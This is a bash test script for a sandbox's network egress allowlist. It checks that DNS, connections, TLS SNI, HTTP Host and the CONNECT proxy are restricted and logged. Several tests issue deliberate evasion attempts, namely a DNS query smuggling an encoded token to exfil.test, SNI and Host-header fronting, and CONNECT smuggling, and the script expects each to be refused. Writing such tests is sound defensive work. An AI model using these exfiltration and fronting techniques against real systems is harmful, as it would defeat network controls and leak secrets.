#!/bin/bash
# 40-net-basic: network off by default; the transparent allowlist for curl,
# python and node; everything else (other names, literal addresses, host
# loopback, DNS exfiltration, SNI/Host fronting) refused and logged.
# Servers on 127.0.0.1 only (tests/net/server.py), reached by name through
# --egress-resolve.
. "$ROOT/tests/lib.sh"
. "$ROOT/tests/net/setup.sh"

# ---- default: no network at all ----
run_fb run $BINDS -- $CL connect 127.0.0.1 "$HTTP"
case "$RC:$OUT" in 1:refused*) ok "default: host loopback server unreachable" ;;
  *) fail "default: host loopback server unreachable" "rc $RC: $OUT $ERR" ;; esac
run_fb run -- /bin/sh -c 'getent hosts api.test || echo unresolved'
case "$OUT" in unresolved) ok "default: no name resolution" ;; *) fail "default: no name resolution" "$OUT" ;; esac
run_fb run -- /bin/sh -c 'cat /proc/net/route | wc -l; cat /sys/class/net/*/operstate 2>/dev/null | sort -u | tr "\n" " "'
case "$OUT" in 1*) ok "default: no route" ;; *) fail "default: no route" "$OUT" ;; esac
expect_rc "default: curl to a literal address fails" 7 run -- curl -sS -m 10 "http://127.0.0.1:$HTTP/hello"

# ---- allowed name: curl, python, node ----
fresh_log
expect_out "curl http://api.test" "hello api.test" run $NET --net-log "$LOG" -- curl -sS -m 30 http://api.test/hello
expect_out "curl https://api.test" "hello api.test" run $NET --net-log "$LOG" -- curl -sS -m 30 --cacert /certs/cert.pem https://api.test/hello
log_has "log: allowed connection with bytes" "$LOG" 'e["event"]=="connect" and e["name"]=="api.test" and e["verdict"]=="allow" and e["port"]==443 and e["protocol"]=="tls" and e["bytes_in"]>0 and e["bytes_out"]>0 and e["duration_ms"]>=0'
log_has "log: DNS answer for the allowed name" "$LOG" 'e["event"]=="dns" and e["name"]=="api.test" and e["type"]=="A" and e["verdict"]=="allow" and e["answer"].startswith("198.1")'
expect_out "python urllib https" "hello api.test" run $NET -- $CL get https://api.test/hello /certs/cert.pem
expect_out "python urllib http" "hello api.test" run $NET -- $CL get http://api.test/hello
if need node "node tests"; then
  expect_out "node fetch https" "hello api.test" run $NET --env NODE_EXTRA_CA_CERTS=/certs/cert.pem -- \
    node -e 'fetch("https://api.test/hello").then(r => r.text()).then(t => process.stdout.write(t), e => { console.error(e); process.exit(3) })'
  expect_out "node https.get" "hello api.test" run $NET --env NODE_EXTRA_CA_CERTS=/certs/cert.pem -- \
    node -e 'require("https").get("https://api.test/hello", r => r.pipe(process.stdout)).on("error", e => { console.error(e); process.exit(3) })'
  run_fb run $NET -- node -e 'fetch("http://other.test/hello").then(() => process.exit(0), e => { console.log(String(e.cause && e.cause.code)); process.exit(3) })'
  case "$RC:$OUT" in 3:ENOTFOUND*) ok "node: other name not found" ;; *) fail "node: other name not found" "rc $RC $OUT $ERR" ;; esac
fi
if command -v git >/dev/null; then
  # git's smart HTTP client over the relay: the test server is not a git
  # server, so a 404 from it (not a DNS or connection error) is the pass.
  run_fb run $NET --env GIT_SSL_CAINFO=/certs/cert.pem -- git ls-remote https://api.test/repo.git
  case "$ERR" in *"not found"*|*404*) ok "git over https reaches the server" ;; *) fail "git over https reaches the server" "rc $RC $ERR" ;; esac
fi

# ---- other names and addresses ----
fresh_log
expect_rc "curl: other name does not resolve" 6 run $NET --net-log "$LOG" -- curl -sS -m 10 http://other.test/hello
log_has "log: other name denied" "$LOG" 'e["event"]=="dns" and e["name"]=="other.test" and e["verdict"]=="deny"'
run_fb run $NET -- $CL get https://other.test/hello /certs/cert.pem
case "$RC:$ERR" in 1:*rror*) ok "python: other name fails" ;; *) fail "python: other name fails" "rc $RC $OUT" ;; esac
fresh_log
run_fb run $NET --net-log "$LOG" -- $CL connect 127.0.0.1 80
case "$RC:$OUT" in 1:refused*) ok "literal 127.0.0.1:80 refused" ;; *) fail "literal 127.0.0.1:80 refused" "rc $RC $OUT" ;; esac
log_has "log: literal address denied" "$LOG" 'e["event"]=="connect" and e["dest"]=="127.0.0.1:80" and e["verdict"]=="deny"'
run_fb run $NET -- $CL connect 198.18.7.7 443
case "$RC:$OUT" in 1:refused*) ok "unassigned synthetic address refused" ;; *) fail "unassigned synthetic address refused" "rc $RC $OUT" ;; esac
run_fb run $NET -- $CL connect 127.0.0.1 "$HTTP"
case "$RC:$OUT" in 1:refused*) ok "host loopback listener unreachable in allow mode" ;; *) fail "host loopback listener unreachable in allow mode" "rc $RC $OUT" ;; esac
run_fb run $NET -- /bin/sh -c 'cat /proc/net/route | wc -l'
case "$OUT" in 1) ok "allow mode: no route out" ;; *) fail "allow mode: no route out" "$OUT" ;; esac

# ---- DNS: exfiltration, types, TCP ----
fresh_log
SECRET=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA
run_fb run $NET --net-log "$LOG" -- /bin/sh -c "getent hosts $SECRET.exfil.test || echo refused; $CL dns $SECRET.api.test TXT"
case "$OUT" in refused*) ok "DNS exfiltration query gets no answer" ;; *) fail "DNS exfiltration query gets no answer" "$OUT" ;; esac
log_has "log: exfiltration query logged as denied" "$LOG" "e['event']=='dns' and e['name']=='$SECRET.exfil.test' and e['verdict']=='deny'"
expect_out "DNS: TXT for an allowed name is refused" "REFUSED 0" run $NET -- $CL dns api.test TXT
expect_out "DNS: A over UDP" "NOERROR 1" run $NET -- $CL dns api.test A
expect_out "DNS: A over TCP" "NOERROR 1" run $NET -- $CL dns api.test A tcp
expect_out "DNS: AAAA is empty" "NOERROR 0" run $NET -- $CL dns api.test AAAA
expect_out "DNS: other name NXDOMAIN" "NXDOMAIN 0" run $NET -- $CL dns other.test A
run_fb run $NET -- /bin/sh -c "$CL dns api.test A; getent hosts api.test; getent hosts API.TEST"
case "$OUT" in *"198.18.0.2"*api.test*"198.18.0.2"*) ok "DNS: the address is stable for a name" ;; *) fail "DNS: the address is stable for a name" "$OUT" ;; esac

# ---- fronting: SNI and Host must name the connection's host ----
fresh_log
run_fb run $NET --net-log "$LOG" -- $CL tls api.test 443 other.test /certs/cert.pem
case "$RC:$OUT" in 1:refused*) ok "TLS SNI mismatch refused" ;; *) fail "TLS SNI mismatch refused" "rc $RC $OUT" ;; esac
log_has "log: SNI mismatch" "$LOG" 'e["event"]=="connect" and e["verdict"]=="deny" and "other.test does not match api.test" in e["reason"]'
expect_rc "curl --connect-to (SNI other.test) refused" 35 run $NET -- curl -sS -m 10 --cacert /certs/cert.pem --connect-to other.test:443:api.test:443 https://other.test/hello
expect_out "TLS with the right SNI passes" "connected: HTTP/1.1 200" run $NET -- $CL tls api.test 443 api.test /certs/cert.pem
fresh_log
expect_rc "HTTP Host mismatch refused" 56 run $NET --net-log "$LOG" -- curl -sS -m 10 -H "Host: other.test" http://api.test/hello
log_has "log: Host mismatch" "$LOG" 'e["event"]=="connect" and e["verdict"]=="deny" and "Host other.test does not match" in e["reason"]'
run_fb run $NET -- $CL raw api.test 80 'GET http://other.test/hello HTTP/1.1\r\nHost: api.test\r\n\r\n'
case "$RC" in 1) ok "absolute-form target for another host refused" ;; *) fail "absolute-form target for another host refused" "$OUT" ;; esac
run_fb run $NET -- $CL raw api.test 80 'GET /hello HTTP/1.1\r\nHost: api.test\r\nHost: other.test\r\n\r\n'
case "$RC" in 1) ok "two Host headers refused" ;; *) fail "two Host headers refused" "$OUT" ;; esac
run_fb run $NET -- $CL raw api.test 80 'CONNECT other.test:443 HTTP/1.1\r\nHost: api.test\r\n\r\n'
case "$RC" in 1) ok "CONNECT through a transparent connection refused" ;; *) fail "CONNECT through a transparent connection refused" "$OUT" ;; esac
fresh_log
run_fb run $NET --net-log "$LOG" -- $CL raw api.test 443 'hello\r\n'
case "$RC" in 1) ok "neither TLS nor HTTP on 443 refused" ;; *) fail "neither TLS nor HTTP on 443 refused" "$OUT" ;; esac
log_has "log: non-TLS on 443" "$LOG" 'e["event"]=="connect" and e["verdict"]=="deny" and "neither TLS nor HTTP" in e["reason"]'
expect_out "raw HTTP with the right Host passes" "answer: b'HTTP/1.1 200" run $NET -- $CL raw api.test 80 'GET /hello HTTP/1.1\r\nHost: api.test\r\n\r\n'

# ---- patterns and ports ----
W="--allow-net *.wild.test --egress-resolve a.wild.test:80=127.0.0.1:$HTTP --egress-resolve wild.test:80=127.0.0.1:$HTTP $BINDS"
expect_out "wildcard: a subdomain is allowed" "hello a.wild.test" run $W -- curl -sS -m 10 http://a.wild.test/hello
expect_rc "wildcard: the bare name is not" 6 run $W -- curl -sS -m 10 http://wild.test/hello
expect_rc "port not allowed: nothing listens on 80" 7 run --allow-net api.test:443 $MAP $BINDS -- curl -sS -m 10 http://api.test/hello
expect_out "explicit port, server speaks first (opaque TCP)" "banner: 220 fluebox-banner / echo ping" run \
  --allow-net "api.test:$BANNER" --egress-resolve api.test=127.0.0.1 $BINDS -- $CL banner api.test "$BANNER"
expect_out "explicit port: HTTP is still checked (Host ok)" "hello api.test" run \
  --allow-net "api.test:$HTTP" --egress-resolve api.test=127.0.0.1 $BINDS -- curl -sS -m 10 "http://api.test:$HTTP/hello"
expect_rc "explicit port: HTTP is still checked (Host mismatch)" 56 run \
  --allow-net "api.test:$HTTP" --egress-resolve api.test=127.0.0.1 $BINDS -- curl -sS -m 10 -H "Host: other.test" "http://api.test:$HTTP/hello"

# ---- the host-side resolver refuses loopback answers it was not told about ----
fresh_log
run_fb run --allow-net "localhost:$HTTP" --net-log "$LOG" $BINDS -- $CL viadns localhost "$HTTP"
case "$RC:$OUT" in 1:refused*) ok "a name resolving to host loopback is refused" ;; *) fail "a name resolving to host loopback is refused" "rc $RC $OUT $ERR" ;; esac
log_has "log: loopback answer refused" "$LOG" 'e["event"]=="connect" and e["verdict"]=="deny" and "loopback" in e["reason"]'

# ---- the CONNECT proxy ----
fresh_log
expect_out "proxy: curl https through HTTPS_PROXY" "hello api.test" run $NET --proxy-env --net-log "$LOG" -- \
  /bin/sh -c 'test -n "$HTTPS_PROXY" && curl -sS -m 30 --cacert /certs/cert.pem https://api.test/hello'
log_has "log: proxied connection" "$LOG" 'e["event"]=="connect" and e["via"]=="proxy" and e["name"]=="api.test" and e["verdict"]=="allow"'
run_fb run $NET --proxy-env -- curl -sS -m 10 -o /dev/null -w '%{http_connect}' --cacert /certs/cert.pem https://other.test/
case "$OUT" in 403) ok "proxy: other name gets 403" ;; *) fail "proxy: other name gets 403" "rc $RC $OUT $ERR" ;; esac
run_fb run $NET --proxy-env -- curl -sS -m 10 -o /dev/null -w '%{http_code}' -x http://127.0.0.1:3128 http://api.test/hello
case "$OUT" in 405) ok "proxy: only CONNECT" ;; *) fail "proxy: only CONNECT" "rc $RC $OUT $ERR" ;; esac
run_fb run $NET --proxy-env -- $PY -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
assert s.recv(100).startswith(b"HTTP/1.1 200")
s.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
try:
    print("refused" if s.recv(100) == b"" else "passed")
except ConnectionResetError:
    print("refused")'
case "$OUT" in refused) ok "proxy: first bytes checked after CONNECT" ;; *) fail "proxy: first bytes checked after CONNECT" "rc $RC $OUT $ERR" ;; esac

# ---- host network only where the profile allows it ----
expect_err "--net host refused by the default profile" 125 "does not permit" run --net host -- true
expect_out "--net host with the trusted profile" "hello 127.0.0.1" run --profile trusted --net host -- \
  curl -sS -m 10 "http://127.0.0.1:$HTTP/hello"

# ---- report ----
run_fb run $NET --report "$T/report.json" -- /bin/sh -c "curl -sS -m 10 http://api.test/hello; getent hosts other.test; true"
if /usr/bin/python3 -c '
import json, sys
n = json.load(open(sys.argv[1]))["network"]
assert n["dns_queries"] >= 3 and n["dns_denied"] >= 1 and n["connections_allowed"] == 1, n
' "$T/report.json" 2>"$T/rep.err"; then ok "report: network summary"; else fail "report: network summary" "$(cat "$T/rep.err" "$T/report.json" | tail -c 400)"; fi

for f in "$T"/net*.jsonl; do
  json_lines "$f" >/dev/null || { fail "every log line is JSON" "$f: $(json_lines "$f")"; continue; }
done
ok "every log line is JSON"
no_leftovers "no leftovers"
